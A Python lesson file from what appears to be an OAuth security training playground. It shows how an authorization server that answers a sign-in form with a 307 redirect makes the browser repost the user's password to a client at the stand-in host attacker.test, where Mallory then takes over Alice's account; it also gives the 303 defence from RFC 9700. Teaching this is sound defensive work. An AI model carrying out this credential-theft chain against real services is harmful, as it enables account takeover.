"""A 307 redirect forwards the user's credentials: the authorization server
answers the sign-in form with a 307 to the client's redirect URI, and the
browser posts the username and password there (RFC 9700 4.12)."""

from urllib.parse import urlsplit

from playground import Lesson

PHOTOPRINTZ = "https://attacker.test/callback"

lesson = Lesson(
    "A 307 redirect hands Alice's password to the client",
    level="intermediate",
    kind="attack",
    weakness="as.redirect_307",
    summary=(
        "Alice once approved PhotoPrintz, Mallory's look-alike client. When "
        "PhotoPrintz asks her to sign in again, the authorization server "
        "checks her password and, with her consent on record, answers the "
        "sign-in form at once with a redirect to PhotoPrintz's redirect URI. "
        "With status 307 the browser must repeat the POST there, with the "
        "form: Mallory's server receives Alice's username and password."
    ),
    defence="""
**Never answer a request that carries the user's password with a 307.**

- RFC 9700 4.12: "Authorization servers that redirect a request that
  potentially contains the user's credentials therefore MUST NOT use the
  HTTP 307 status code for redirection. If an HTTP redirection (and not, for
  example, JavaScript) is used for such a request, the authorization server
  SHOULD use HTTP status code 303 (See Other)."
- Why: a 307 tells the browser to repeat the request with the same method
  and body (RFC 9110 15.4.8); "only the status code 303 unambiguously
  enforces rewriting the HTTP POST request to an HTTP GET request" (RFC 9700
  4.12). Here the server answers the sign-in form with **303**; the browser
  follows with a `GET` that carries only the code, and the password stays
  with the server.
- A 302 is not the fix either: most browsers turn it into a GET, but HTTP
  lets them keep the POST (RFC 9110 15.4.3), which is why RFC 9700 asks for
  303. (The 302 of step 1 goes to the server's own `/authorize/resume`:
  even a browser that kept the POST would send the password back to the
  server itself.)
- The client need not be malicious for this to hurt: an honest client that
  receives the password holds a secret it should never see, in its logs
  too.
""",
)


@lesson.step("Alice once approved PhotoPrintz")
def alice_approved_photoprintz(run):
    """
    PhotoPrintz is a registered client of the real authorization server,
    Mallory's, with its redirect URI on her site. Some time ago Alice signed
    in through it and approved `basic` (her name and city): the server
    **remembers that consent** and will not ask again for the same scope.

    Look at the sign-in: the consent page came next, so the server answered
    the sign-in form with a redirect to its own `/authorize/resume` and
    asked for consent there. PhotoPrintz's page says "Welcome back!".
    """
    printz = run.oauth_client("photo-printz")
    run.browser.open(printz.authorization_url("basic", pkce_method="S256"))
    run.browser.sign_in("alice", "wonderland")
    run.check(
        "the sign-in answers 302 to the server's own /authorize/resume",
        run.browser.status == 302
        and (run.browser.redirect_location or "").startswith(
            f"{run.issuer}/authorize/resume?"
        ),
    )
    run.browser.follow_redirect()
    run.browser.approve()
    run.browser.follow_redirect()
    run.check(
        "the server remembers Alice's consent for PhotoPrintz (basic)",
        run.store.has_consent("u-1001", "photo-printz", "basic"),
    )
    run.check(
        "PhotoPrintz welcomes her back",
        "Welcome back!" in run.browser.page.text,
    )


@lesson.step("PhotoPrintz asks Alice to sign in again")
def sign_in_again(run):
    """
    A week later PhotoPrintz sends Alice to the real server with
    `prompt=login`, asking for a fresh sign-in: "for your security, confirm
    it's you". The request's scope is `basic`, without `openid`, so it is not
    an OpenID Connect request; `prompt` is an OpenID Connect parameter (OIDC
    Core 3.1.2.1) that this server also honours in plain OAuth requests.
    The server shows its real sign-in page, at its real address. There is
    nothing for Alice to distrust.
    """
    run.clock.advance(7 * 24 * 3600)
    printz = run.oauth_client("photo-printz")
    run.browser.open(
        printz.authorization_url("basic", pkce_method="S256", extra={"prompt": "login"})
    )
    run.check(
        "the real server shows its sign-in page",
        urlsplit(run.browser.address).netloc == "auth.photos.test"
        and run.browser.page.form("login-form") is not None,
    )


@lesson.step("Alice signs in; the server answers at once")
def alice_signs_in(run):
    """
    Alice types `alice` / `wonderland`: `POST /login`, password in the body.
    The server checks it, finds her consent on record, and answers the form
    itself with the authorization response: a redirect to
    `https://attacker.test/callback?code=...`. Look at the status code.

    - **Weakness on**: **307 Temporary Redirect**. The browser must repeat
      the request as it was (RFC 9110 15.4.8): it sends `POST
      /callback?code=...` to `attacker.test`, **with the form**:
      `username=alice&password=wonderland` (and the server's CSRF token).
      Mallory's server keeps the password.
    - **Defended**: **303 See Other**. The browser follows with a `GET`
      that carries the code in the URL and no body. The password went to
      the authorization server and nowhere else.
    """
    run.browser.sign_in("alice", "wonderland")
    answer = run.browser.status
    location = run.browser.redirect_location or ""
    run.check(
        "the server answers the sign-in form with a redirect to PhotoPrintz",
        location.startswith(f"{PHOTOPRINTZ}?code="),
    )
    run.browser.follow_redirect()
    sent = run.last_request
    if run.weakness_on:
        run.check("the answer is 307 Temporary Redirect", answer == 307)
        run.check(
            "the browser POSTs to attacker.test, the form repeated",
            sent.method == "POST" and sent.host == "attacker.test",
        )
        run.check(
            "with Alice's username and password in the body",
            sent.form.get("username") == "alice"
            and sent.form.get("password") == "wonderland",
        )
        run.check(
            "Mallory's server has Alice's password",
            run.attacker.loot("password") == ["wonderland"],
        )
    else:
        run.check("the answer is 303 See Other", answer == 303)
        run.check(
            "the browser GETs PhotoPrintz's callback, without a body",
            sent.method == "GET" and sent.host == "attacker.test" and not sent.body,
        )
        run.check("Mallory has no password", run.attacker.loot("password") == [])


@lesson.step("Mallory signs in as Alice")
def mallory_uses_the_password(run):
    """
    **Weakness on**: Mallory signs in at the real server as `alice`, in her
    own browser, and approves her own client PhotoPrintz for `photos.read`,
    which Alice never granted. She redeems the code with PhotoPrintz's
    secret (and its PKCE verifier) and reads Alice's photos. The password
    opens every other application Alice uses with this account too.

    **Defended**: PhotoPrintz got what Alice approved, a code for `basic`,
    and nothing else. Mallory has no password to sign in with.
    """
    passwords = run.attacker.loot("password")
    if not run.weakness_on:
        run.check("Mallory has no password to use", passwords == [])
        return
    printz = run.oauth_client("photo-printz")
    mallory = run.attacker.browser
    mallory.open(printz.authorization_url("photos.read", pkce_method="S256"))
    mallory.sign_in("alice", passwords[-1])
    mallory.follow_redirect()
    run.check(
        "the real server's consent page says: signed in as Alice Liddell",
        "Signed in as Alice Liddell" in mallory.page.text,
    )
    mallory.approve()
    response = run.attacker.redeem_code(
        mallory.redirect_params.get("code", ""),
        client_id=printz.client_id,
        redirect_uri=printz.redirect_uri,
        client_secret=printz.client_secret,
        code_verifier=printz.pending.code_verifier,
    )
    run.check("the token endpoint answers Mallory 200", response.status_code == 200)
    photos = run.attacker.call_api(
        "/api/photos", run.attacker.stolen.get("access_token", "")
    )
    titles = [photo["title"] for photo in photos.json().get("photos", [])]
    run.check(
        "the photos API gives Mallory Alice's photos",
        photos.status_code == 200 and titles == ["Tea party", "Croquet lawn"],
    )
